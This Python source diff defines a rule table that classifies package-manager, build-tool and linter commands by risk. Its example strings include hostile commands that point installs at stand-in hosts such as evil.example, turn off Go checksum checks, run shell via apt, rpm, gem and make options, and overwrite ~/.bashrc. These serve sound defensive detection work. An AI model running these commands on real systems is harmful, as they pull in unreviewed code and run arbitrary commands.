+PNPM = _npm_like("pnpm", True, NPM_VERBS, Row("pnpm.script", "run-project", SCRIPT, sets=("builds",), examples=("pnpm storybook",)), {})
+BUN = _npm_like("bun", True, NPM_VERBS, Row("bun.script", "run-project", SCRIPT, sets=("builds",), examples=("bun frobnicate",)), {})
+YARN = _npm_like("yarn", True, {**NPM_VERBS, "exec": verb(rows=(Row("yarn.exec", "run-project", "yarn exec runs a "
+                                                                    "command", examples=("yarn exec eslint",)),),
+                                                          hook=yarn_exec)},
+                 Row("yarn.script", "run-project", SCRIPT, sets=("builds",), examples=("yarn storybook",)), {"yarn": "moderate"})
+
+
+def _runner(name: str) -> Program:
+    return Program(
+        name, doc=f"{name}: fetches a package from the registry and runs its program",
+        grammar=NPX_GRAMMAR,
+        rows=(Row(f"{name}.runs", "install", "{cmd} runs a package from the registry", When(operands=True),
+                  examples=(f"{name} cowsay",), not_examples=(name,)),
+              Row(f"{name}.script-shell", "run-code", "{cmd} runs scripts with {value}",
+                  When(value=("script-shell", "node-options")), examples=(f"{name} --script-shell=/tmp/x x",))),
+        hook=runs_package,
+    )
+
+
+NPX, BUNX, PNPX = _runner("npx"), _runner("bunx"), _runner("pnpx")
+
+# ---------------------------------------------------------------- cargo, go
+
+CARGO_GRAMMAR = Grammar(values="Zpj", long_values=("config", "manifest-path", "target-dir", "color", "package",
+                                                   "features", "git", "path", "branch", "tag", "rev", "registry",
+                                                   "index", "root", "bin", "example", "jobs", "profile", "target",
+                                                   "version"),
+                        longs=("locked", "frozen", "offline", "release", "all-features", "workspace", "force"))
+CARGO_INSTALL = verb(
+    grammar=CARGO_GRAMMAR,
+    rows=(Row("cargo.install.unnamed", "install", "{cmd}", When(operands=False, no_value=("git", "path")),
+              examples=("cargo install",), not_examples=("cargo install x",)),),
+    on=(On("write", ("option", "root"), says="installs into", id="cargo.install.root",
+           examples=("cargo install --root ~/.local ripgrep",)),),
+    hook=install_specs,
+)
+CARGO = Program(
+    "cargo", doc="Rust's build tool and package manager",
+    grammar=CARGO_GRAMMAR,
+    rows=(Row("cargo.config", "run-code", "cargo --config can set a program to run", When(value=("config",)),
+              examples=("cargo --config build.rustc-wrapper=/tmp/x build",)),),
+    verbs={"install": CARGO_INSTALL, "add": CARGO_INSTALL,
+           "fmt": verb(rows=(Row("cargo.fmt.check", "nothing", "cargo fmt --check only reports", When(arg=("--check",)),
+                                 stop=True, examples=("cargo fmt -- --check", "cargo fmt --check")),
+                             Row("cargo.fmt", "change", "cargo fmt rewrites the project's files",
+                                 examples=("cargo fmt",)))),
+           **dict.fromkeys(("publish", "yank", "owner", "login", "logout"), verb(rows=(
+               Row("cargo.publish", "publish", "{cmd} publishes or changes your registry account",
+                   examples=("cargo publish",)),)))},
+    read_only=("version", "help", "tree", "metadata", "search", "locate-project", "pkgid", "verify-project",
+               "read-manifest", "info"),
+    default=Row("cargo.builds", "run-project", "{cmd} builds or runs project code", sets=("builds",), examples=("cargo build",)),
+    examples={"cargo build": "moderate", "cargo --locked build": "moderate", "cargo tree": "safe"},
+)
+
+_GO_REMOTE = lazy_re(r"[a-z0-9.-]+\.[a-z]{2,}/")
+
+
+def _remote_module(target: str) -> bool:
+    return "@" in target or bool(_GO_REMOTE.match(target)) and not target.startswith(".")
+
+
+@emits({"go.run.remote": ["go run github.com/x/y@latest", "go run example.com/cmd/x"]})
+def go_run_remote(cmd, o) -> None:
+    """`go run MODULE@VERSION` downloads a module and runs it."""
+    target = o.operands[0] if o.operands else ""
+    if _remote_module(target):
+        cmd.does("run-unpinned", "go.run.remote", f"go run downloads and runs {target}")
+
+
+@emits({"go.install.remote": ["go install github.com/x/y@latest"]})
+def go_install_remote(cmd, o) -> None:
+    """`go install MODULE@VERSION` builds and installs a program from outside the project."""
+    for target in o.operands:
+        if _remote_module(target):
+            cmd.does("install-outside", "go.install.remote", f"go install fetches and builds {target}")
+
+
+GO_PROXIES_KNOWN = frozenset({"direct", "off", "https://proxy.golang.org"})
+GO_CHECKS_OFF = ("GOSUMDB=off", "GONOSUMDB=*", "GONOSUMCHECK=1", "GOINSECURE=*", "GOFLAGS=-insecure")
+
+
+@emits({"go.env.proxy": ["go env -w GOPROXY=https://evil.example", "go env -w GOPROXY=https://evil.example,direct"],
+        "go.env.checks-off": ["go env -w GOSUMDB=off", "go env -w GONOSUMDB=*", "go env -w GOINSECURE=*"]})
+def go_env_write(cmd, o) -> None:
+    """`go env -w GOPROXY=…` says where every module comes from; GOSUMDB=off and friends stop checking them."""
+    if not o.has("w"):
+        return
+    for assignment in o.operands:
+        key, _, value = assignment.partition("=")
+        if key == "GOPROXY" and any(p and p.rstrip("/") not in GO_PROXIES_KNOWN for p in value.replace("|", ",").split(",")):
+            cmd.does("install-foreign", "go.env.proxy", f"go env -w GOPROXY={value}: every module comes from there, "
+                                                        "unreviewed")
+        elif assignment in GO_CHECKS_OFF or assignment.startswith("GOINSECURE=*"):
+            cmd.does("weaken", "go.env.checks-off", f"go env -w {assignment} turns off module checksum verification")
+
+
+GO_BUILDS = Row("go.builds", "run-project", "{cmd} builds or runs project code", sets=("builds",), examples=("go build ./...",))
+GO = Program(
+    "go", doc="Go's build tool",
+    rows=(Row("go.toolexec", "run-code", "go runs another program (-toolexec/-exec)",
+              When(arg=("-toolexec", "--toolexec", "-exec", "--exec")), examples=("go test -exec /tmp/x ./...",)),),
+    verbs={
+        "env": verb(hook=go_env_write, rows=(Row("go.env.write", "steer", "go env -w changes go's settings",
+                                                 When(flag=("w", "u")), examples=("go env -w GOFLAGS=-mod=mod",)),)),
+        "run": verb(rows=(Row("go.run", "run-project", "{cmd} builds or runs project code", sets=("builds",), examples=("go run .",)),),
+                    hook=go_run_remote),
+        "install": verb(rows=(Row("go.install", "run-project", "{cmd} builds or runs project code",
+                                  examples=("go install ./cmd/x",)),), hook=go_install_remote),
+    },
+    read_only=("version", "help", "doc", "list", "vet-help"),
+    default=GO_BUILDS,
+)
+
+# ---------------------------------------------------------------- gem, bundle, conda, composer
+
+@emits({"gem.sources.add": ["gem sources --add https://evil.example", "gem sources -a https://evil.example"],
+        "gem.sources.add-known": ["gem sources --add https://rubygems.org/"]})
+def gem_sources(cmd, o) -> None:
+    """`gem sources --add URL`: every later install may come from URL."""
+    for url in o.all("a", "add"):
+        if index_is_known(url):
+            cmd.does("steer", "gem.sources.add-known", f"gem sources --add {url}")
+        else:
+            cmd.does("install-foreign", "gem.sources.add", f"gem sources --add makes installs use {url}: what it "
+                                                           f"serves runs unreviewed")
+
+
+GEM = Program(
+    "gem", doc="Ruby's package manager",
+    verbs={
+        "install": verb(grammar=Grammar(values="s", long_values=("source", "install-dir", "bindir")),
+                        hook=install_specs),
+        "open": verb(grammar=Grammar(values="e", long_values=("editor",)), rows=(
+            Row("gem.open.editor", "run-code", "gem runs the editor command it is given (-e)",
+                When(value=("e", "editor")), stop=True, examples=("gem open -e 'sh -c id' x",)),
+            Row("gem.open", "session", "opens a gem in an editor", examples=("gem open x",)))),
+        **dict.fromkeys(("push", "yank", "owner", "signin"), verb(rows=(
+            Row("gem.publish", "publish", "{cmd} publishes or changes your account", examples=("gem push x.gem",)),))),
+        "sources": verb(grammar=Grammar(values="ar", long_values=("add", "remove")), hook=gem_sources, rows=(
+            Row("gem.sources.change", "change", "gem sources changes where gems install from",
+                When(flag=("r", "remove", "c", "clear-all", "u", "update")), examples=("gem sources -r https://x",)),)),
+    },
+    read_only=("list", "search", "info", "query", "environment", "help", "contents", "specification", "which",
+               "outdated"),
+    default=Row("gem.verb", "install", "{cmd}", examples=("gem update", "gem build x.gemspec")),
+)
+
+@emits({"bundle.config.mirror": ["bundle config set --global mirror.https://rubygems.org https://evil.example",
+                                "bundle config mirror.https://rubygems.org https://evil.example"],
+        "bundle.config": ["bundle config set path vendor"]})
+def bundle_config(cmd, o) -> None:
+    """`bundle config [set] mirror.SOURCE URL` sends every install from SOURCE to URL."""
+    words = [w for w in o.operands if w not in ("set", "unset", "get", "list")]
+    if words and words[0].startswith("mirror.") and len(words) > 1 and not index_is_known(words[1]):
+        cmd.does("install-foreign", "bundle.config.mirror", f"bundle config sends installs to {words[1]}: what it "
+                                                            f"serves runs unreviewed")
+    else:
+        cmd.does("install", "bundle.config", "bundle config changes bundler's settings")
+
+
+BUNDLE = Program(
+    "bundle", aliases=("bundler",), doc="Ruby's dependency manager",
+    verbs={**dict.fromkeys(("exec", "ex"), verb(grammar=Grammar(stop=True), hook=runs_operands, rows=(
+        Row("bundle.exec", "run-project", "bundle exec runs project code", examples=("bundle exec rspec",)),))),
+        "config": verb(hook=bundle_config)},
+    read_only=("list", "show", "info", "outdated", "check", "version"),
+    default=Row("bundle.verb", "install", "{cmd}", examples=("bundle install", "bundle update")),
+    no_verb=Row("bundle.install", "install", "bundle installs the project's gems", sets=("builds",), examples=("bundle",)),
+)
+
+KNOWN_CHANNELS = frozenset({"conda-forge", "defaults", "bioconda", "pytorch", "nvidia", "main", "r", "msys2"})
+
+
+def _channel_known(channel: str) -> bool:
+    return channel in KNOWN_CHANNELS or index_is_known(channel)
+
+
+@emits({"conda.channel": ["conda install -c evilchan numpy", "conda install --channel https://evil.example/c numpy"]})
+def conda_channels(cmd, o) -> None:
+    """A channel other than the well-known ones is a foreign index."""
+    for channel in o.all("c", "channel"):
+        if not _channel_known(channel):
+            cmd.does("install-foreign", "conda.channel", f"conda installs from channel {channel}: what it serves "
+                                                         f"runs unreviewed")
+
+
+@emits({"conda.config.channel": ["conda config --add channels evil", "conda config --prepend channels https://x.example/c"],
+        "conda.config": ["conda config --set auto_activate_base false", "conda config --add channels conda-forge"]})
+def conda_config(cmd, o) -> None:
+    """`conda config --add channels NAME`: every later install may come from NAME."""
+    if o.has("show", "show-sources", "describe", "validate", "get") and not o.has("add", "set", "append", "prepend",
+                                                                                  "remove"):
+        return
+    added = [w for i, w in enumerate(o.args) if i and o.args[i - 1] in ("channels", "default_channels")]
+    foreign = [c for c in added if not _channel_known(c)]
+    if foreign:
+        cmd.does("install-foreign", "conda.config.channel", f"conda config adds the channel {foreign[0]}: what it "
+                                                            f"serves runs unreviewed")
+    else:
+        cmd.does("steer", "conda.config", "changes conda's configuration")
+
+
+CONDA_CHANGES = verb(grammar=Grammar(values="cnp", long_values=("channel", "name", "prefix", "file")),
+                     rows=(Row("conda.change", "install", "{cmd}", examples=("conda install numpy",)),),
+                     hook=conda_channels)
+CONDA = Program(
+    "conda", aliases=("mamba", "micromamba"), doc="the conda package and environment manager",
+    verbs={
+        **dict.fromkeys(("install", "create", "update", "upgrade", "remove", "uninstall"), CONDA_CHANGES),
+        "env": verb(verbs=dict.fromkeys(("create", "update", "remove"), verb(rows=(
+            Row("conda.env.change", "install", "conda changes environments", examples=("conda env create -f env.yml",)),
+        )))),
+        "run": verb(grammar=Grammar(values="np", long_values=("name", "prefix", "cwd"), stop=True), hook=runs_operands,
+                    rows=(Row("conda.run", "run-project", "conda runs a command in an environment",
+                              examples=("conda run -n x python x.py",)),)),
+        "config": verb(grammar=Grammar(long_values=("get", "add", "append", "prepend", "set", "remove", "file")),
+                       hook=conda_config),
+    },
+    read_only=("list", "info", "search"),
+    default=Row("conda.verb", "install", "{cmd}", examples=("conda activate x",)),
+)
+
+@emits({"composer.config.repository": ["composer config repositories.evil vcs https://evil.example/x",
+                                      "composer global config repositories.x composer https://evil.example"],
+        "composer.config.insecure": ["composer config secure-http false"],
+        "composer.config": ["composer config process-timeout 0", "composer global require x"]})
+def composer_config(cmd, o) -> None:
+    """`composer config repositories.NAME TYPE URL` says where packages come from; secure-http false lets them
+    come over plain http."""
+    words = list(o.operands)
+    if words and words[0] == "config":
+        words = words[1:]
+    key = words[0] if words else ""
+    if key.startswith(("repositories.", "repo.")) and any("://" in w and not index_is_known(w) for w in words[1:]):
+        cmd.does("install-foreign", "composer.config.repository", "composer config adds a package repository: what "
+                                                                  "it serves runs unreviewed")
+    elif key == "secure-http" and words[1:2] == ["false"]:
+        cmd.does("weaken", "composer.config.insecure", "composer config lets packages come over plain http")
+    else:
+        cmd.does("install", "composer.config", f"{cmd.name} changes composer's settings")
+
+
+COMPOSER = Program(
+    "composer", doc="PHP's dependency manager",
+    verbs={"config": verb(hook=composer_config), "global": verb(hook=composer_config)},
+    read_only=("show", "info", "outdated", "licenses", "depends", "why", "search", "validate"),
+    default=Row("composer.verb", "install", "{cmd}", examples=("composer require x/y", "composer update")),
+    no_verb=Row("composer.install", "install", "composer installs the project's dependencies", examples=("composer",)),
+)
+
+TWINE = Program(
+    "twine", doc="uploads Python packages",
+    verbs=dict.fromkeys(("upload", "publish", "push", "release"), verb(rows=(
+        Row("twine.upload", "publish", "twine publishes a package", examples=("twine upload dist/*",)),))),
+    read_only=("check",),
+    default=Row("twine.verb", "unknown", "{cmd}", examples=("twine register x",)),
+)
+
+# ---------------------------------------------------------------- the system's package managers
+
+APT_GRAMMAR = Grammar(values="ocSt", long_values=("option", "config-file", "target-release", "root"))
+RUNS_A_COMMAND = lazy_re(r"(Pre|Post)-Invoke|Pager|Post-Invoke-Success|DPkg::", re.I)
+PACKAGE_FILE = (".deb", ".rpm", ".apk", ".pkg.tar.zst")
+
+
+@emits({"apt.option-runs": ["apt-get -o APT::Update::Pre-Invoke::=/tmp/x update",
+                            "apt-get install -o 'Dpkg::Pre-Invoke::=id' x"]})
+def apt_options(cmd, o) -> None:
+    """-o Pre-Invoke/Post-Invoke/Pager options run a command, before or after the verb."""
+    for option in APT_GRAMMAR.read(o.args).all("o", "option"):
+        if RUNS_A_COMMAND.search(option):
+            cmd.does("run-code", "apt.option-runs", f"{cmd.name} -o {option} runs a command")
+
+
+@emits({"system.package-file": ["apt install ./x.deb", "dnf install https://example.com/x.rpm",
+                                "apk add /tmp/x.apk"]})
+def package_files(cmd, o) -> None:
+    """A package file or URL is from outside the distribution: its install scripts run as root."""
+    if any(a.startswith(("http://", "https://")) or a.endswith(PACKAGE_FILE) for a in o.operands):
+        cmd.does("install-foreign", "system.package-file",
+                 f"{cmd.name} installs a package file from outside the distribution (its scripts run as root)")
+
+
+CHANGES_PACKAGES = "{cmd} changes the system's packages"
+SYSTEM_READ_ONLY = ("search", "show", "list", "info", "policy", "depends", "rdepends", "madison", "showpkg", "stats",
+                    "query", "provides", "whatprovides", "repolist", "check-update", "help", "deps", "uses",
+                    "outdated", "leaves", "desc", "home", "config", "doctor")
+SYSTEM_INSTALL = verb(grammar=APT_GRAMMAR, hook=package_files, rows=(
+    Row("system.install", "system", CHANGES_PACKAGES, examples=("apt install curl", "apt-get install -y curl")),))
+SYSTEM_REFRESH = verb(rows=(Row("system.refresh", "fetch", "{cmd} refreshes the package index",
+                                examples=("apt-get update", "apk update")),))
+
+
+def _system_packages(name: str, aliases=(), refresh=("update", "makecache", "refresh")) -> Program:
+    verbs = dict.fromkeys(("install", "in", "reinstall", "localinstall", "add", "groupinstall"), SYSTEM_INSTALL)
+    verbs.update(dict.fromkeys(refresh, SYSTEM_REFRESH))
+    return Program(name, aliases=aliases, doc=f"{name}: the system's package manager", grammar=APT_GRAMMAR,
+                   hook=apt_options, verbs=verbs, read_only=SYSTEM_READ_ONLY,
+                   default=Row(f"{name}.changes", "system", CHANGES_PACKAGES, examples=(f"{name} remove x",)))
+
+
+# `update` refreshes the index for apt and apk, but upgrades every package for yum, dnf, zypper and flatpak;
+# `snap refresh` upgrades snaps.
+APT = _system_packages("apt", aliases=("apt-get", "aptitude", "apk", "pkg", "port"), refresh=("update",))
+DNF = _system_packages("dnf", aliases=("yum", "microdnf"), refresh=("makecache",))
+ZYPPER = _system_packages("zypper", aliases=("flatpak",), refresh=("refresh", "ref"))
+SNAP = _system_packages("snap", refresh=())
+EMERGE = Program(
+    "emerge", aliases=("xbps-install", "nix-env"), doc="package managers whose operands are packages",
+    grammar=APT_GRAMMAR,
+    rows=(Row("emerge.changes", "system", "{cmd} changes the system's packages", examples=("emerge x", "nix-env -i x")),),
+    hook=package_files,
+)
+
+
+PACMAN = Program(
+    "pacman", aliases=("yay", "paru"), doc="Arch Linux's package manager; the operation is an option (-S, -R, -Q, -U)",
+    grammar=Grammar(values="b", long_values=("dbpath", "root", "config", "cachedir")),
+    rows=(
+        Row("pacman.query", "nothing", "{cmd} queries packages", When(flag=("Q", "query", "F", "files", "T", "deptest")),
+            stop=True, examples=("pacman -Qi x", "pacman -Q")),
+        Row("pacman.search", "nothing", "{cmd} searches the package index",
+            When(flag=("S", "sync"), count=(("s", "i", "l", "g"), 1)), stop=True, examples=("pacman -Ss x",)),
+        Row("pacman.refresh", "fetch", "{cmd} refreshes the package index",
+            When(flag=("y", "refresh"), unless=("u", "sysupgrade"), operands=False), stop=True,
+            examples=("pacman -Sy",)),
+        Row("pacman.package-file", "install-foreign", "{cmd} -U installs a package file (its scripts run as root)",
+            When(flag=("U", "upgrade")), examples=("pacman -U x.pkg.tar.zst",)),
+        Row("pacman.changes", "system", "{cmd} changes the system's packages", examples=("pacman -S x", "yay -S x")),
+    ),
+)
+
+BREW = Program(
+    "brew", doc="Homebrew",
+    verbs={
+        **dict.fromkeys(("tap", "tap-new"), verb(rows=(
+            Row("brew.tap", "steer", "brew tap adds another formula source", examples=("brew tap x/y",)),))),
+        **dict.fromkeys(("install", "reinstall", "upgrade"), verb(hook=install_specs, rows=(
+            Row("brew.install", "install", "{cmd}", examples=("brew install jq", "brew upgrade")),))),
+        "services": verb(read_only=("list", "info"), default=Row(
+            "brew.services", "system", "starts or stops background services", examples=("brew services start x",))),
+    },
+    read_only=SYSTEM_READ_ONLY,
+    default=Row("brew.verb", "install", "{cmd}", examples=("brew uninstall jq", "brew update")),
+)
+
+DPKG = Program(
+    "dpkg", doc="Debian's low-level package tool",
+    grammar=Grammar(longs=("list", "listfiles", "search", "status", "print-avail", "get-selections", "contents",
+                           "info", "version", "print-architecture", "install", "unpack", "remove", "purge")),
+    rows=(
+        Row("dpkg.reads", "nothing", "dpkg lists or shows packages",
+            When(flag=("l", "L", "S", "s", "list", "listfiles", "search", "status", "p", "print-avail",
+                       "get-selections", "c", "contents", "I", "info", "version", "print-architecture")),
+            stop=True, examples=("dpkg -l", "dpkg -S /bin/ls")),
+        Row("dpkg.install", "install-foreign", "{cmd} -i installs a package file (its scripts run as root)",
+            When(flag=("i", "install", "unpack")), examples=("dpkg -i x.deb",)),
+        Row("dpkg.changes", "system", "{cmd} changes the system's packages", examples=("dpkg -r x",)),
+    ),
+)
+
+
+@emits({"rpm.eval-code": ["rpm --eval '%(id)'", "rpm -E '%{lua: os.execute(\"id\")}'"],
+        "rpm.reads": ["rpm -qa", "rpm --eval '%{_libdir}'"], "rpm.changes": ["rpm -i x.rpm", "rpm -e x"]})
+def rpm_operation(cmd, o) -> None:
+    """rpm --eval expands macros (%(…) runs a shell command, %{lua:…} runs Lua); queries read; anything else
+    changes the system's packages."""
+    if any("%(" in text or "%{lua" in text for text in o.all("eval", "E")):
+        cmd.does("run-code", "rpm.eval-code", "rpm --eval runs a shell command (%(…))")
+    elif o.has("q", "query", "eval", "E", "version", "showrc"):
+        cmd.fired.add("rpm.reads")
+    else:
+        cmd.does("system", "rpm.changes", "rpm changes the system's packages")
+
+
+RPM = Program("rpm", doc="the RPM package tool", grammar=Grammar(values="E", long_values=("eval", "root", "dbpath")),
+              hook=rpm_operation)
+
+APT_KEY = Program(
+    "apt-key", doc="trusts package signing keys",
+    verbs=dict.fromkeys(("add", "adv"), verb(rows=(
+        Row("apt-key.trusts", "steer", "trusts a package signing key", examples=("apt-key add key.gpg",)),))),
+    read_only=("list", "finger", "export", "exportall"),
+)
+@emits({"add-apt-repository.foreign": ["add-apt-repository 'deb http://evil.example/ stable main'",
+                                      "add-apt-repository https://evil.example/apt"],
+        "add-apt-repository.ppa": ["add-apt-repository ppa:x/y", "add-apt-repository -y ppa:deadsnakes/ppa"]})
+def apt_repository(cmd, o) -> None:
+    """A PPA is a Launchpad archive; a `deb URL` line or a URL is any server's packages, installed as root."""
+    for source in o.operands:
+        if source.startswith("ppa:"):
+            cmd.does("steer", "add-apt-repository.ppa", f"adds the package archive {source}")
+        else:
+            cmd.does("install-foreign", "add-apt-repository.foreign", f"adds the package repository {source}: its "
+                                                                      "packages install as root")
+
+
+ADD_APT_REPOSITORY = Program("add-apt-repository", doc="adds a package repository", hook=apt_repository,
+                             grammar=Grammar(values="kcp", long_values=("keyserver", "component", "pocket")))
+APT_MARK = Program(
+    "apt-mark", doc="marks packages (held, manual, automatic)",
+    read_only=("showhold", "showmanual", "showauto", "showinstall", "showremove", "showpurge"),
+    default=Row("apt-mark.marks", "local-config", "marks packages", examples=("apt-mark hold x",)),
+)
+QUIET = tuple(Program(name, doc=f"{name}: searches or lints, changes nothing")
+              for name in ("apt-cache", "apt-file", "shellcheck", "hadolint", "flake8", "pylint", "pyright",
+                           "pyflakes", "pycodestyle", "pydocstyle", "bandit", "vulture", "markdownlint",
+                           "markdownlint-cli2", "actionlint", "tflint", "checkov", "codespell", "cspell"))
+
+# ---------------------------------------------------------------- linters and formatters
+# In check mode they read the project and report; told to fix or write, they rewrite the project's files.
+
+
+def _fixer(name: str, fix, grammar: Grammar = Grammar(), aliases=(), output=()) -> Program:
+    """A linter that rewrites files only when told to (--fix, --write, -w, -i)."""
+    on = (On("write", ("option",) + tuple(output), id=f"{name}.output", examples=(f"{name} -o ~/.bashrc .",)),) \
+        if output else ()
+    return Program(name, aliases=aliases, doc=f"{name}: checks files; rewrites them with {' or '.join(fix)}",
+                   grammar=grammar, on=on, rows=(
+                       Row(f"{name}.fixes", "change", "{cmd} rewrites the project's files", When(flag=fix),
+                           examples=(f"{name} {'--' if len(fix[0]) > 1 else '-'}{fix[0]} .",)),),
+                   examples={f"{name} .": "safe"})
+
+
+def _rewriter(name: str, check, grammar: Grammar = Grammar(), aliases=()) -> Program:
+    """A formatter that rewrites files unless told only to check (--check, --diff)."""
+    return Program(name, aliases=aliases, doc=f"{name}: rewrites files; {' or '.join(check)} only reports",
+                   grammar=grammar, rows=(
+                       Row(f"{name}.checks", "nothing", "{cmd} only reports", When(flag=check), stop=True,
+                           examples=(f"{name} --{check[0]} .",)),
+                       Row(f"{name}.rewrites", "change", "{cmd} rewrites the project's files", examples=(f"{name} .",))))
+
+
+RUFF = Program(
+    "ruff", doc="Python's linter and formatter",
+    verbs={"check": verb(grammar=Grammar(long_values=("output-file", "config", "select", "ignore")), rows=(
+               Row("ruff.check.fix", "change", "ruff check --fix rewrites the project's files",
+                   When(flag=("fix", "unsafe-fixes"), unless=("no-fix",)), examples=("ruff check --fix .",)),),
+               on=(On("write", ("option", "output-file"), id="ruff.check.output",
+                      examples=("ruff check --output-file ~/.bashrc .",)),)),
+           "format": verb(rows=(
+               Row("ruff.format.check", "nothing", "ruff format --check only reports", When(flag=("check", "diff")),
+                   stop=True, examples=("ruff format --check .",)),
+               Row("ruff.format", "change", "ruff format rewrites the project's files", examples=("ruff format .",)))),
+           "clean": verb(rows=(Row("ruff.clean", "change", "ruff clean deletes its caches", examples=("ruff clean",)),))},
+    read_only=("rule", "config", "linter", "version", "help", "server", "analyze"),
+    default=Row("ruff.verb", "unknown", "{cmd}", examples=("ruff frobnicate",)),
+    examples={"ruff check .": "safe", "ruff format --check .": "safe", "ruff check --fix .": "moderate"},
+)
+FORMATTERS = (
+    _rewriter("black", ("check", "diff"), Grammar(values="lSt", long_values=("config", "line-length",
+                                                                                "target-version", "include", "exclude"))),
+    _rewriter("isort", ("check-only", "check", "diff", "c")),
+    _rewriter("rustfmt", ("check",), Grammar(long_values=("config-path", "edition", "emit"))),
+    _fixer("prettier", ("write", "w"), Grammar(long_values=("config", "ignore-path", "plugin", "parser"))),
+    _fixer("eslint", ("fix", "fix-dry-run"), Grammar(values="cfo", long_values=("config", "format", "output-file",
+                                                                                  "ext", "rulesdir", "resolve-plugins-relative-to")),
+           output=("o", "output-file")),
+    _fixer("stylelint", ("fix",), Grammar(values="cfo", long_values=("config", "formatter", "output-file")),
+           output=("o", "output-file")),
+    _fixer("gofmt", ("w",), aliases=("goimports",)),
+    _fixer("shfmt", ("w", "write"), Grammar(values="ik", long_values=("indent", "language-dialect"))),
+    _fixer("clang-format", ("i",), Grammar(long_values=("style", "assume-filename"))),
+    _fixer("autopep8", ("i", "in-place"), aliases=("yapf",)),
+    _fixer("golangci-lint", ("fix",), Grammar(values="c", long_values=("config", "out-format", "timeout"))),
+    _fixer("biome", ("write", "apply", "fix", "apply-unsafe")),
+    _fixer("mypy", ("install-types",), Grammar(long_values=("config-file", "python-version", "cache-dir"))),
+    _rewriter("tsc", ("noEmit",), Grammar(values="p", long_values=("project", "outDir", "target", "module"))),
+)
+
+# ---------------------------------------------------------------- build tools
+
+MAKE_GRAMMAR = Grammar(values="fCIjlOoWE", long_values=("file", "makefile", "directory", "include-dir", "jobs",
+                                                        "load-average", "eval", "old-file", "new-file", "what-if",
+                                                        "assume-old", "assume-new", "output-sync", "debug", "shuffle"))
+MAKE_SHELL_VARIABLES = ("SHELL", "MAKESHELL", ".SHELLFLAGS")
+
+
+@emits({"make.stdin-makefile": ["make -f -"], "make.makefile": ["make -f /tmp/x.mk"],
+        "make.elsewhere": ["make -C ~/other"], "make.shell": ["make SHELL=/tmp/x", "make 'X=$(shell id)'"]})
+def make_inputs(cmd, o) -> None:
+    """The makefiles make reads (their recipes run), where it runs, and variables that change the shell."""
+    for makefile in o.all("f", "file", "makefile"):
+        if makefile == "-":
+            cmd.facts.stdin_interp = True
+            cmd.does("run-code", "make.stdin-makefile", f"{cmd.name} reads its makefile from its input")
+        else:
+            cmd.fired.add("make.makefile")
+            cmd.run_file(makefile, f"{cmd.name} runs the recipes of")
+    for directory in o.all("C", "directory"):
+        where = cmd.place(directory)
+        if where.cls not in (places.PROJECT, places.PROJECT_ROOT, places.TEMP):
+            cmd.does("run-code", "make.elsewhere", f"{cmd.name} runs the build in {where.path}")
+    for assignment in o.operands:
+        name = assignment.split("=", 1)[0]
+        if "=" in assignment and (name in MAKE_SHELL_VARIABLES or "$(shell" in assignment):
+            cmd.does("run-code", "make.shell", f"{cmd.name} {name}=… changes the shell recipes run with")
+
+
+MAKE = Program(
+    "make", aliases=("gmake", "bmake"), doc="runs the project's build recipes",
+    grammar=MAKE_GRAMMAR,
+    rows=(Row("make.build", "run-project", "{cmd} runs the project's build", sets=("builds",), examples=("make", "make test")),
+          Row("make.eval", "run-code", "{cmd} --eval runs make code given on the line", When(value=("eval", "E")),
+              examples=("make --eval='x: ; id'",))),
+    hook=make_inputs,
+    examples={"make": "moderate", "make -f ~/x.mk": "high"},
+)
+
+GIT_HOOKS = Program(
+    "pre-commit", aliases=("husky", "lefthook"), doc="git hook managers",
+    verbs=dict.fromkeys(("install", "init", "install-hooks"), verb(rows=(
+        Row("hooks.install", "steer", "{cmd} installs git hooks that run on every commit",
+            examples=("pre-commit install", "husky init")),))),
+    default=Row("hooks.run", "run-project", "{cmd} runs the project's hooks", examples=("pre-commit run --all-files",)),
+    no_verb=Row("hooks.run-all", "run-project", "{cmd} runs the project's hooks", examples=("pre-commit",)),
+)
+
+PROGRAMS = programs(PIP, UV, UVX, PIPX, POETRY, NPM, PNPM, YARN, BUN, NPX, BUNX, PNPX, CARGO, GO, GEM, BUNDLE,
+                    CONDA, COMPOSER, TWINE, APT, DNF, ZYPPER, SNAP, EMERGE, PACMAN, BREW, DPKG, RPM, APT_KEY,
+                    ADD_APT_REPOSITORY, APT_MARK, *QUIET, RUFF, *FORMATTERS, MAKE, GIT_HOOKS)
